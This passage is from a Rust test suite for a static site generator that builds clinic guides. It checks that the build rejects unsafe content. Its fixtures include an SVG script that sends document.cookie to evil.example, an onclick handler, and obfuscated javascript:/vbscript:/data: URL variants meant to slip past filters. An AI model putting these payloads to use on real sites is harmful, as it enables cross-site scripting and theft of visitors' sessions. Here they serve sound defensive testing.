        .file("content/peels/consent-form.pdf", "%PDF-1.4");
    site.run("build").succeeds();
    assert!(site.has_output("peels/handout.txt"));
    assert!(!site.has_output("peels/consent-form.pdf"));
}

/// An SVG an entry shows that carries a script is an error at the script;
/// the same drawing without it builds.
#[test]
fn an_svg_with_script_is_an_error_at_the_script() {
    let drawing = "<svg xmlns=\"http://www.w3.org/2000/svg\" viewBox=\"0 0 10 10\">\n  <circle r=\"4\"/>\n  <script>fetch('https://evil.example/?' + document.cookie)</script>\n</svg>\n";
    let site = TestSite::fixture("minimal")
        .file("content/peels/layers.svg", drawing)
        .file("content/peels/layers.md", "---\ntitle: Which layers?\n---\n![The layers of the skin](layers.svg)\n");
    for command in ["check", "build"] {
        site.run(command)
            .fails()
            .stderr_has("content/peels/layers.svg:3:3: error: this SVG has script: a <script> element")
            .stderr_has("= help: a script in an SVG runs on the site when the file is opened");
    }
    assert!(!site.has_output(""));
    let handler = "<svg xmlns=\"http://www.w3.org/2000/svg\">\n<rect width=\"4\" onclick=\"steal()\"/>\n</svg>\n";
    let site = site.file("content/peels/layers.svg", handler);
    site.run("check")
        .fails()
        .stderr_has("content/peels/layers.svg:2:1: error: this SVG has script: an event handler `onclick=` on <rect>");
    let site = site.file(
        "content/peels/layers.svg",
        drawing.replace("  <script>fetch('https://evil.example/?' + document.cookie)</script>\n", ""),
    );
    site.run("build").succeeds();
    assert!(site.has_output("peels/layers.svg"));
}

/// Files under content/ at the paths of pages and files gloss makes: each
/// is an error naming the file and what gloss makes there, and nothing is
/// replaced.
#[test]
fn a_file_at_the_path_of_something_gloss_makes_is_an_error_naming_both() {
    let site = TestSite::fixture("minimal")
        .file("content/index.html", "<h1>Not the home page</h1>")
        .file("content/404.html", "gone")
        .file("content/topics/index.html", "topics")
        .file("content/peels/does-it-sting/index.html", "fake answer")
        .file("content/peels/print/index.html", "fake handout")
        .file("content/robots.txt", "User-agent: *\nDisallow: /\n")
        .file("content/search/en/manifest.js", "alert(1)")
        .file("content/style.css", "body { display: none }")
        .file("content/peels/how-long.md", "---\ntitle: How long does it last?\n---\nA week.\n")
        .file("content/peels/how-long", "a file where the entry's folder goes")
        .file("content/peels/notes.md", "---\ntitle: Notes?\n---\n[a](../index.html) [b](../404.html) [c](../topics/index.html) [d](does-it-sting/index.html) [e](print/index.html) [f](../robots.txt) [g](../search/en/manifest.js) [h](../style.css) [i](how-long)\n");
    let run = site.run("check").fails();
    for said in [
        "content/index.html:1:1: error: this file would replace the home page, which gloss writes at index.html",
        "content/404.html:1:1: error: this file would replace the page-not-found page, which gloss writes at 404.html",
        "content/topics/index.html:1:1: error: this file would replace the page listing every topic, which gloss writes at topics/index.html",
        "content/peels/does-it-sting/index.html:1:1: error: this file would replace the page of `Does it sting?` (content/peels/does-it-sting.md), which gloss writes at peels/does-it-sting/index.html",
        "content/peels/print/index.html:1:1: error: this file would replace the printable handout of the guide `Peels`, which gloss writes at peels/print/index.html",
        "content/robots.txt:1:1: error: this file would replace the robots.txt gloss makes, which gloss writes at robots.txt",
        "content/search/en/manifest.js:1:1: error: this file would replace the search index gloss makes, which gloss writes at search/en/manifest.js",
        "content/style.css:1:1: error: this file would replace the static file themes/clinic/static/style.css, which gloss writes at style.css",
        "content/peels/how-long:1:1: error: this file would take the place of the folder peels/how-long/, where gloss writes the page of `How long does it last?`",
        "= help: rename or move the file: gloss makes that path itself",
    ] {
        assert!(run.stderr().contains(said), "no {said:?} in:\n{}", run.terminal());
    }
    site.run("build").fails();
    assert!(!site.has_output(""));
}

/// A file under content/ in the search index's folder, where gloss writes
/// the index's shards (`search/en/p/0.js`): an error naming the file and
/// the folder, and nothing is replaced, as for the manifest itself.
#[test]
fn a_file_in_the_search_index_folder_is_an_error_naming_the_folder() {
    let site = TestSite::fixture("minimal")
        .file("content/search/en/p/0.js", "alert(1)")
        .file("content/peels/notes.md", "---\ntitle: Notes?\n---\n[script](../search/en/p/0.js)\n");
    site.run("check")
        .fails()
        .stderr_has("content/search/en/p/0.js:1:1: error: this file is in the folder search/en/, where gloss writes the search index")
        .stderr_has("= help: rename or move the file: gloss makes that path itself");
    site.run("build").fails();
    assert!(!site.has_output(""));
}

/// A static file of the site at the path of a page: `gloss serve`, which
/// serves static files under their own names, would show it in the page's
/// place.
#[test]
fn a_static_file_at_the_path_of_a_page_is_an_error() {
    let site = TestSite::fixture("minimal").file("static/404.html", "<p>Our own 404</p>");
    site.run("check").fails().stderr_has(
        "static/404.html:1:1: error: this static file would replace the page-not-found page, which gloss writes at 404.html",
    );
}

/// A colleague's pull request slips script links into an entry, disguised
/// as browsers still read them: in any case, behind a space or a tab, as an
/// entity, as an autolink or a reference. Each is an error where it is
/// written, and nothing is published.
#[test]
fn script_and_data_urls_in_markdown_are_errors_where_they_are_written() {
    let entry = "---\ntitle: \"Does it hurt?\"\n---\n\
        Click [here](javascript:alert(1)) or [there](&#106;avascript:alert(2)).\n\n\
        <JaVaScRiPt:alert(3)> ![a scan](data:image/png;base64,AAAA) [more][r]\n\n\
        [tab](<java\tscript:alert(5)>) [space](< javascript:alert(6)>) [cdn](//evil.example/x)\n\n\
        [safe](https://example.org/pain) [mail](mailto:desk@clinic.example) [call](tel:+441234)\n\n\
        [r]: vbscript:msgbox(4)\n";
    let site = TestSite::fixture("minimal").file("content/peels/hurt.md", entry);
    let run = site.run("build").fails();
    for (at, message) in [
        ("4:7", "gloss does not publish `javascript:` URLs"),
        ("4:38", "gloss does not publish `javascript:` URLs"),
        ("6:1", "gloss does not publish `javascript:` URLs"),
        ("6:23", "gloss does not publish `data:` URLs"),
        ("6:61", "gloss does not publish `vbscript:` URLs"),
        ("8:1", "gloss does not publish `javascript:` URLs"),
        ("8:31", "gloss does not publish `javascript:` URLs"),
        ("8:63", "this URL has no scheme (it starts with `//`)"),
    ] {
        let expected = format!("content/peels/hurt.md:{at}: error: {message}");
        assert!(run.stderr().contains(&expected), "no {expected:?} in:\n{}", run.terminal());
    }
    assert_eq!(run.stderr().matches(": error: ").count(), 8, "{}", run.terminal());
    assert!(run.stderr().contains("help: write `https://evil.example/x`"), "{}", run.terminal());
    assert!(!site.path().join("public").exists(), "a build with errors published something");
}

/// Addresses outside markdown: a citation's `url`, the practice's booking
/// page and the site's `base_url`. A script is refused; an address typed
/// without `https://` (which would publish a broken "Book an appointment"
/// button on every page) is an error that suggests the whole address.
#[test]
fn addresses_in_front_matter_and_gloss_yaml_must_be_whole_web_addresses() {
    let entry = "---\ntitle: \"Is it safe?\"\nsources:\n  - title: A study\n    url: \"JAVA\\tSCRIPT:alert(1)\"\n  \
                 - {title: Another, url: nih.example/peels}\n---\nYes.\n";
    let site = TestSite::fixture("minimal")
        .edit("gloss.yaml", |text| {
            text.replace("base_url: \"https://guides.example.org/\"", "base_url: \"data:text/html,hi\"")
                + "practice:\n  name: Clinic\n  booking_url: clinic.example/book\n"
        })
        .file("content/peels/safe.md", entry);
    let run = site.run("check").fails();
    for expected in [
        "content/peels/safe.md:5:10: error: gloss does not publish `javascript:` URLs",
        "content/peels/safe.md:6:27: error: this address has no scheme (`https://`)",
        "help: write `https://nih.example/peels`",
        "gloss.yaml:4:11: error: gloss does not publish `data:` URLs",
        "gloss.yaml:9:16: error: this address has no scheme (`https://`)",
        "help: write `https://clinic.example/book`",
    ] {
        assert!(run.stderr().contains(expected), "no {expected:?} in:\n{}", run.terminal());
    }
    assert_eq!(run.stderr().matches(": error: ").count(), 4, "{}", run.terminal());
}

/// A title pasted from a terminal or typed with a YAML escape carries an
/// invisible control character, which would go into every page's HTML.
#[test]
fn control_characters_in_titles_are_errors() {
    let site = TestSite::fixture("minimal")
        .edit("gloss.yaml", |text| text.replace("title: \"Test guides\"", "title: \"Test\\e[31m guides\""))
        .file("content/peels/bell.md", "---\ntitle: \"Does it \\x07ring?\"\n---\nNo.\n");
    let run = site.run("check").fails();
    run.stderr_has("gloss.yaml:3:8: error: this title contains an invisible control character (U+001B)")
        .stderr_has("content/peels/bell.md:2:8: error: this title contains an invisible control character (U+0007)")
        .stderr_has("help: remove it");
}

/// Raw HTML pasted into an entry carries hrefs that are not URLs (from the
/// CommonMark spec's examples). Each reaches the page percent-encoded, as
/// markdown links are, so the page stays valid HTML; one that cannot be a
/// URL (`https://../`) is left out.
#[test]
fn raw_html_links_that_are_not_urls_are_percent_encoded() {
    let entry = "---\ntitle: \"Raw?\"\n---\n<a href=\"\\*\">one</a> <a href=\"`\">two</a> <a href=\"foo\\\nbar\">three</a> \
                 <a href=\"foo  \nbar\">four</a> <a href=\"https://../\">five</a> [six](https://example.org/a\\b)\n";
    let site = TestSite::fixture("minimal").file("content/peels/raw.md", entry).built();
    let page = site.output("peels/raw/index.html");
    for link in [
        "<a>five</a>",
        "<a href=\"%5C*\">one</a>",
        "<a href=\"%60\">two</a>",
        "<a href=\"foo%5Cbar\">three</a>",
        "<a href=\"foo%20%20bar\">four</a>",
        "<a href=\"https://example.org/a%5Cb\">six</a>",
    ] {
        assert!(page.contains(link), "no {link} in:\n{page}");
    }
}

#[test]
fn an_emptied_content_folder_does_not_replace_the_published_site_unless_asked() {
    let site = TestSite::fixture("minimal").built();
    let published = site.output_files();
    let site = site.remove("content/peels");
    std::fs::create_dir_all(site.path().join("content")).unwrap();
    site.run("build")
        .fails()
        .stderr_has("content:1:1: error: the site has no guides, so the build would publish an empty site")
        .stderr_has("pass --allow-empty");
    site.run("check").fails().stderr_has("the site has no guides");
    assert_eq!(site.output_files(), published, "the published site is left as it was");

    site.run("check --allow-empty").succeeds();
    site.run("build --allow-empty").succeeds().stdout_has("Built 0 guides");
    assert!(!site.has_output("peels/index.html"));
}

#[test]
fn a_content_folder_of_drafts_only_says_how_to_include_them() {
    let site = TestSite::fixture("minimal")
        .edit("content/peels/_index.md", |text| text.replacen("---\n", "---\ndraft: true\n", 1));
    site.run("build").fails().stderr_has("the site has no guides").stderr_has("without --drafts");
    site.run("build --drafts").succeeds();
}

#[test]
fn a_missing_content_folder_says_so() {
    let site = TestSite::fixture("minimal").remove("content");
    let run = site.run("build").fails().stderr_has("content:1:1: error: there is no content folder");
    assert_eq!(run.stderr().matches("error:").count(), 1, "one mistake, one error:\n{}", run.stderr());
}

/// Emacs keeps `.#file.md`, a link to `user@host.pid:time` that points
/// nowhere, beside a file with unsaved changes; hidden files and folders
/// (git's, a writer's private notes) are no part of the site either.
#[test]
fn hidden_files_and_folders_are_not_part_of_the_site() {
    let site = TestSite::fixture("minimal")
        .file("content/peels/.notes/private.md", "---\ntitle: Private?\n---\nNot for patients.\n")
        .file("content/peels/.notes/scan.pdf", "private")
        .file("content/.git/config", "[core]\n")
        .file("static/.secrets/token.txt", "secret")
        .file("templates/.old/entry.html", "{% if %}")
        .file("themes/clinic/templates/.backup/base.html", "{% for %}")
        .file("themes/clinic/static/.cache/x.css", "x");
    for lock in ["content/peels/.#does-it-sting.md", "templates/.#entry.html", "static/.#site.css"] {
        std::fs::create_dir_all(site.path().join(lock).parent().unwrap()).unwrap();
        std::os::unix::fs::symlink("writer@laptop.4242:1733400000", site.path().join(lock)).unwrap();
    }
    site.run("build").succeeds();
    let published = site.output_files();
    for hidden in ["private", "scan.pdf", ".git", ".notes", "secrets", "token", ".old", ".cache", ".#"] {
        assert!(!published.contains(hidden), "{hidden} was published:\n{published}");
    }
}

#[test]
fn a_target_grade_that_is_not_a_number_is_refused() {
    for (value, shown) in [(".nan", "NaN"), (".inf", "inf"), ("-3", "-3"), ("0", "0"), ("250", "250")] {
        let site = TestSite::fixture("minimal")
            .edit("gloss.yaml", |config| format!("{config}readability:\n  target_grade: {value}\n"));
        site.run("check")
            .fails()
            .stderr_has(&format!("gloss.yaml:8:17: error: `target_grade` must be a reading grade, not {shown}"))
            .stderr_has("write a number from 1 to 30");
    }
    let site = TestSite::fixture("minimal").edit("gloss.yaml", |config| config + "readability:\n  target_grade: 6.5\n");
    site.run("check").succeeds();
}

/// A glossary imported from a medical dictionary: the terms are found in
/// every entry. (How long it takes is a figure for the build benchmark, not
/// a test's assertion.)
#[test]
fn twenty_thousand_glossary_terms_build() {
    let mut glossary = String::new();
    for i in 0..20_000 {
        glossary.push_str(&format!("- term: term{i}\n  definition: The meaning of term {i}.\n"));
    }
    glossary.push_str("- term: sting\n  definition: A short, sharp pain.\n");
    let site = TestSite::fixture("minimal").file("content/glossary.yaml", &glossary);
    site.run("build").succeeds();
    assert!(site.output("glossary/index.html").contains("term19999"));
}
